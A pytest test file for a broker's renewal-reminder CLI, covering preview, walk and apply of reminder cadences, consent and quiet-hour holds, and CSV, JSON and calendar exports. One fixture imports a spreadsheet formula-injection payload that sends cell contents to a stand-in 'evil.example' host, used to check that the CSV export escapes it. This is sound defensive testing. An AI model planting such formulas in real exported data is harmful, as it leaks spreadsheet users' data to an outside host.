"""`vuelvo cadences`: what will go out, seen beforehand."""

import csv
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
import yaml
from icalendar import Calendar

from app import renewals as enrolling
from app.preview import Upcoming, upcoming
from store import contacts
from store.database import Database
from tests.app.test_docs import ROOT, blocks, lines, vuelvo
from tests.app.test_renewals import ANA, BOGOTA, BY, CONFIG, Broker, a_broker  # noqa: F401 - the fixture
from tests.app.test_renewals_cli import HEAD, rows
from tests.support.shell import Shell


async def previewed(broker: Broker, days: int = 120) -> list[Upcoming]:
    tenant = await broker.house.service.tenant("acme")
    assert tenant is not None
    async with broker.house.service.database.transaction() as connection:
        return list(await upcoming(connection, tenant, broker.clock.at, days))


def local(one: Upcoming) -> str:
    return f"{one.at.astimezone(BOGOTA):%Y-%m-%d %H:%M}"


async def test_what_will_go_out_is_shown_with_when_to_whom_and_over_which_channel(broker: Broker) -> None:
    await broker.enrols(ANA)
    assert [
        (local(one), one.subject, one.name, one.step, one.channel, one.held) for one in await previewed(broker)
    ] == [
        ("2027-01-18 10:00", "policy-17", "Ana", "-6w", "web", None),
        ("2027-02-15 10:00", "policy-17", "Ana", "-2w", "web", None),
        ("2027-02-26 10:00", "policy-17", "Ana", "-3d", "web", None),
    ]
    assert len(await previewed(broker, 60)) == 1


async def test_what_would_be_held_or_left_out_is_shown_with_why(broker: Broker) -> None:
    await broker.enrols(
        ANA,
        replace(ANA, subject="second"),
        replace(ANA, subject="stranger", addresses={"web": "nobody"}),
        replace(ANA, subject="agreed", addresses={"web": "nobody"}, agreed=True),
    )
    await broker.applies(hours={"open": {"mon-fri": "11:00-19:00"}})
    shown = {(one.subject, one.step): (local(one), one.held, one.is_left_out) for one in await previewed(broker)}
    assert shown["policy-17", "-6w"] == ("2027-01-18 11:00", "quiet hours", False)
    assert shown["second", "-6w"] == ("2027-01-19 11:00", "quiet hours", False)
    assert shown["stranger", "-6w"][1:] == ("no consent", True)
    assert shown["agreed", "-6w"][1:] == ("cannot be reached", True)
    async with broker.house.service.database.transaction() as connection:
        await contacts.stop(connection, "acme", broker.conversation, "customer")
    assert {one.held for one in await previewed(broker) if one.subject == "policy-17"} == {"opted out"}


async def test_what_is_shown_is_what_comes(broker: Broker) -> None:
    await broker.enrols(ANA, replace(ANA, subject="second", due=date(2027, 3, 10)))
    await broker.applies(hours={"open": {"mon-thu": "09:30-12:00"}})
    shown = [(local(one), one.subject, one.step) for one in await previewed(broker) if not one.is_left_out]
    await broker.comes("2027-03-10 10:00")
    tasks = await broker.house.tasks(kind="notice", states=["fired"], tenant="acme")
    came = [
        (f"{one.ended_at.astimezone(BOGOTA):%Y-%m-%d %H:%M}", str(one.subject), str(one.payload["step"]))
        for one in tasks
        if one.outcome == "delivered" and one.ended_at is not None
    ]
    assert sorted(came) == sorted(shown)


async def test_a_cadence_that_changes_is_applied_to_open_renewals_only_when_told(broker: Broker) -> None:
    await broker.enrols(ANA)
    await broker.comes("2027-01-18 10:01")
    steps = [*CONFIG["cadences"]["policy"]["steps"], {"offset": "+7d", "text": {"en": "It has ended."}}]
    steps[1] = {**steps[1], "offset": "-3w"}
    await broker.applies(cadences={"policy": {"steps": steps}})
    tenant = await broker.house.service.tenant("acme")
    assert tenant is not None
    before = await broker.planned()
    seen = await enrolling.plan_anew(broker.house.service, tenant, None, BY, is_tried=True)
    assert (seen.renewals, seen.taken_back, seen.booked, seen.same) == (1, 2, 3, 1)
    assert await broker.planned() == before
    done = await enrolling.plan_anew(broker.house.service, tenant, None, BY, is_tried=False)
    assert done == seen
    assert await broker.planned() == [
        ("-3w", "2027-02-08 10:00"),
        ("-3d", "2027-02-26 10:00"),
        ("+7d", "2027-03-08 10:00"),
    ]
    again = await enrolling.plan_anew(broker.house.service, tenant, None, BY, is_tried=False)
    assert again.renewals == 0


async def test_who_has_answered_is_not_asked_again_because_a_cadence_was_changed(broker: Broker) -> None:
    await broker.enrols(ANA)
    await broker.comes("2027-01-18 10:01")
    await broker.house.says("yes")
    await broker.applies(cadences={"policy": {"at": "11:00", "steps": CONFIG["cadences"]["policy"]["steps"]}})
    tenant = await broker.house.service.tenant("acme")
    assert tenant is not None
    await enrolling.plan_anew(broker.house.service, tenant, None, BY, is_tried=False)
    await broker.comes("2027-03-10 10:00")
    assert len(await broker.told()) == 1


# As commands, which have the time of day


DUE = (datetime.now(UTC) + timedelta(days=56)).date()
"""All three steps are to come, within the 90 days that are shown."""
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
WORDS = ["-6w", "-2w", "-3d"]


class Desk(Shell):
    """A broker's shell, with three policies in a tenant of today's: Ana's, one with a formula for a name, and Luis's."""

    async def applies(self, **more: Any) -> None:
        usual = {"name": "Acme", "time_zone": "America/Bogota", "languages": ["es", "en"]}
        whatsapp = {"account_sid": "AC" + "0a" * 16, "auth_token": "token", "sender": "+14155238886"}
        tenant = {"tenant": "acme", **usual, **CONFIG, "channels": {"whatsapp": whatsapp}, **more}
        (self.directory / "acme.yaml").write_text(yaml.safe_dump(json.loads(json.dumps(tenant))))
        code, said = await self.run("tenants", "apply", "acme.yaml")
        assert code == 0, said

    async def refuses(self, *words: str) -> str:
        """Run a command that was asked wrongly, and return what it says."""
        code, said = await self.run("cadences", *words)
        assert code == 2, said
        return said

    async def shows(self, *words: str) -> str:
        code, said = await self.run("cadences", *words, "--tenant", "acme")
        assert code == 0, said
        return said


@pytest.fixture
async def desk(tmp_path: Path, database_url: str) -> Desk:
    desk = Desk(tmp_path, database_url)
    await desk.applies()
    quoted = FORMULA.replace('"', '""')
    policies = (
        f"P-1;{DUE};Ana;+573001234567;;Fiat;sí",
        f'P-2;{DUE};"{quoted}";+573001234568;;Seat;sí',
        f"P-3;{DUE};Luis;+573001234569;;Opel;no",
    )
    (tmp_path / "policies.csv").write_text(HEAD + "\n".join(policies))
    code, said = await desk.run("renewals", "import", "policies.csv", "--tenant", "acme", "--cadence", "policy")
    assert code == 0, said
    return desk


async def test_a_preview_is_a_table_with_what_goes_out_and_how_much_does_not_and_why(
    desk: Desk, database: Database
) -> None:
    before = await rows(database)
    said = (await desk.shows("preview")).splitlines()
    assert said[0].split() == ["at", "subject", "name", "step", "channel", "held"]
    assert sorted(line.split()[1] for line in said[1:10]) == [f"P-{number}" for number in (1, 2, 3) for _ in WORDS]
    assert said[10].startswith("6 will go out, at most 2 on one day (")
    assert said[10:] == [said[10], "  3: no consent"]
    assert "3001234567" not in "".join(said)
    assert (await desk.shows("preview", "--days", "1")).splitlines() == ["nothing", "0 will go out; 0 will not"]
    assert await rows(database) == before, "it changes nothing"


async def test_a_preview_as_json_has_all_of_it(desk: Desk) -> None:
    shown = json.loads(await desk.shows("preview", "--json"))
    ana = [one for one in shown if one["subject"] == "P-1"]
    assert [(one["step"], one["channel"], one["held"], one["is_left_out"]) for one in ana] == [
        (name, "whatsapp", None, False) for name in WORDS
    ]
    assert (ana[0]["name"], ana[0]["zone"]) == ("Ana", "America/Bogota")
    assert all(datetime.fromisoformat(one["at"]).utcoffset() == timedelta(hours=-5) for one in shown)
    assert ana[1]["says"] == "{name}, acaba el {due}."
    assert {one["held"] for one in shown if one["subject"] == "P-3"} == {"no consent"}


async def test_no_spreadsheet_takes_a_name_of_the_preview_for_a_formula(desk: Desk) -> None:
    assert await desk.shows("preview", "--csv", "upcoming.csv") == ""
    with (desk.directory / "upcoming.csv").open(newline="") as file:
        written = list(csv.DictReader(file))
    assert {one["name"] for one in written} == {"Ana", f"'{FORMULA}", "Luis"}
    assert not [cell for one in written for cell in one.values() if cell[:1] in "=+-@\t\r\n" and cell]
    code, said = await desk.run_anew("cadences", "preview", "--csv", "-", "--tenant", "acme")
    assert (code, list(csv.DictReader(StringIO(said)))) == (0, written)


async def test_a_calendar_has_what_goes_out_and_nothing_else(desk: Desk) -> None:
    await desk.shows("preview", "--ics", "upcoming.ics", "--csv", "upcoming.csv")
    events = Calendar.from_ical((desk.directory / "upcoming.ics").read_bytes()).walk("VEVENT")
    shown = json.loads(await desk.shows("preview", "--json"))
    assert sorted((str(event["UID"]), event.decoded("DTSTART")) for event in events) == sorted(
        (f"acme/{one['subject']}/{one['step']}", datetime.fromisoformat(one["at"]).astimezone(UTC))
        for one in shown
        if not one["is_left_out"]
    )
    assert f"{FORMULA}: -6w" in [str(event["SUMMARY"]) for event in events]
    assert (desk.directory / "upcoming.csv").exists()


async def test_a_walk_says_every_step_with_its_text_and_sends_and_books_nothing(desk: Desk, database: Database) -> None:
    before = await rows(database)
    walked = json.loads(await desk.shows("walk", "P-1", "--json"))
    assert [(one["step"], one["channel"]) for one in walked] == [(name, "whatsapp") for name in WORDS]
    assert "the policy of the Fiat" in walked[0]["says"], "worded by the model, here the one that is built in"
    assert walked[1]["says"].startswith("Ana, acaba el ")
    said = (await desk.shows("walk", "P-1")).splitlines()
    assert said[0].split() == ["at", "step", "channel", "says"]
    assert [line.split()[1] for line in said[1:]] == WORDS
    later = (DUE - timedelta(days=10)).isoformat()
    assert [one["step"] for one in json.loads(await desk.shows("walk", "P-1", "--at", later, "--json"))] == ["-3d"]
    assert await desk.shows("walk", "P-1", "--at", f"{DUE + timedelta(days=1)}") == "nothing"
    assert await rows(database) == before


async def test_a_walk_whose_model_cannot_be_reached_says_so_in_a_line(desk: Desk) -> None:
    desk.sets(VUELVO_MODEL="openai:gpt-5", OPENAI_API_KEY="sk-test", OPENAI_BASE_URL="http://127.0.0.1:9/v1")
    code, said = await desk.run("cadences", "walk", "P-1", "--tenant", "acme")
    assert (code, said.splitlines()[-1].startswith("vuelvo: the step -6w was not worded: ")) == (1, True), said


async def test_a_changed_cadence_is_planned_anew_only_with_yes(desk: Desk) -> None:
    assert "0 open renewals would be planned anew" in await desk.shows("apply")
    await desk.applies(cadences={"policy": {"at": "11:00", "steps": CONFIG["cadences"]["policy"]["steps"]}})
    tried = (await desk.shows("apply", "--cadence", "policy")).splitlines()
    assert tried == [
        "3 open renewals would be planned anew: 9 steps would be taken back, 9 would be booked, 0 of them at the same time"
        " as before",
        "nothing is changed yet: --yes does it",
    ]
    before = json.loads(await desk.shows("preview", "--json"))
    assert json.loads(await desk.shows("apply", "--yes", "--json")) == {
        "renewals": 3, "taken_back": 9, "booked": 9, "same": 0
    }  # fmt: skip
    after = json.loads(await desk.shows("preview", "--json"))
    assert (len(after), {one["at"] for one in after}.isdisjoint(one["at"] for one in before)) == (9, True)
    assert "0 open renewals were planned anew" in await desk.shows("apply", "--yes")


async def test_what_is_not_there_is_named_and_ends_with_two(desk: Desk) -> None:
    for words in (("preview",), ("walk", "P-1"), ("apply", "--yes")):
        assert "there is no tenant 'nobody'" in await desk.refuses(*words, "--tenant", "nobody")
    assert "there is no renewal 'P-9'" in await desk.refuses("walk", "P-9", "--tenant", "acme")
    said = await desk.refuses("apply", "--tenant", "acme", "--cadence", "yearly")
    assert "there is no cadence 'yearly'; there are: policy" in said
    assert "--days" in await desk.refuses("preview", "--tenant", "acme", "--days", "0")
    assert "--at" in await desk.refuses("walk", "P-1", "--tenant", "acme", "--at", "tomorrow")
    kept = desk.directory / "upcoming.csv"
    kept.write_text("of yesterday")
    await desk.refuses("preview", "--tenant", "nobody", "--csv", kept.name)
    assert kept.read_text() == "of yesterday"


async def test_every_command_of_the_page_does_what_it_says_with_the_file_it_shows(
    tmp_path: Path, database_url: str
) -> None:
    page, year = ROOT / "docs/cadences.md", str(DUE.year)
    shell = Shell(tmp_path, database_url)
    ((_, shown),) = blocks(page, "yaml")
    (tmp_path / "acme.yaml").write_text(shown)
    (tmp_path / "policies.csv").write_text(f"Policy,Due,Name,Web,Car,Agreed\nPOL-17,{DUE},Ana,ana,Fiat,yes\n")
    secret = {"ACME_CALLS_SECRET": "whsec_" + "hunter2A" * 4}
    assert (await shell.run("tenants", "apply", "acme.yaml", **secret))[0] == 0
    words = ("renewals", "import", "policies.csv", "--tenant", "acme", "--cadence", "policy")
    assert (await shell.run(*words))[0] == 0
    told: list[str] = []
    for _, block in blocks(page, "sh"):
        for command in filter(None, map(vuelvo, lines(block))):
            code, said = await shell.run(*(word.replace("2027-01-01", f"{year}-01-01") for word in command))
            assert code == 0, said
            told.append(f"{' '.join(command[:2])}: {said}")
    assert [words.partition(":")[0] for words in told] == ["cadences " + name for name in (*["preview"] * 2, *["walk"] * 2, *["apply"] * 2)]  # fmt: skip
    assert "3 will not" in told[0], "nobody has written yet, and there is no number"
    assert all((tmp_path / name).stat().st_size for name in ("upcoming.csv", "upcoming.ics"))
    assert "Ana, su póliza acaba el" in told[2]
